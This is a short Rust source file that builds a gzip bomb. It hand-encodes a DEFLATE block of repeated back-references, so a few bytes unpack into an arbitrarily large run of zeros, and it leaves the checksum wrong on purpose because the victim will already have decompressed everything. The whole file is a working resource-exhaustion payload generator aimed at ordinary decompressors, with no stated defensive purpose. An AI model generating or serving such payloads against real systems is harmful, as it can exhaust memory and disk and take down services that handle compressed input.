//! A gzip bomb: a few bytes that say a lot of nothing.

/// Writes bits into bytes, the lowest first, as DEFLATE does (RFC 1951).
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for bit in 0..count {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().expect("one has just been pushed if there was none");
            *last |= u8::try_from((value >> bit) & 1).expect("it is a bit") << (self.used % 8);
            self.used += 1;
        }
    }

    /// Codes are written with their highest bit first.
    fn push_code(&mut self, code: u32, count: u32) {
        self.push(code.reverse_bits() >> (32 - count), count);
    }
}

/// `length` zero bytes, or a few less, in about a 160th of that: one zero, and then the last 258 bytes again and again.
pub(crate) fn gzip_of_zeros(length: usize) -> Vec<u8> {
    let mut bits = Bits::default();
    // The last block, with the codes that the standard gives.
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    bits.push_code(0b0011_0000, 8);
    let repeats = length.saturating_sub(1) / 258;
    for _ in 0..repeats {
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7);
    let size = u32::try_from(1 + repeats * 258).unwrap_or(u32::MAX);
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    // The checksum is wrong: whoever gets so far has unpacked everything.
    [&head[..], &bits.bytes, &[0; 4], &size.to_le_bytes()].concat()
}
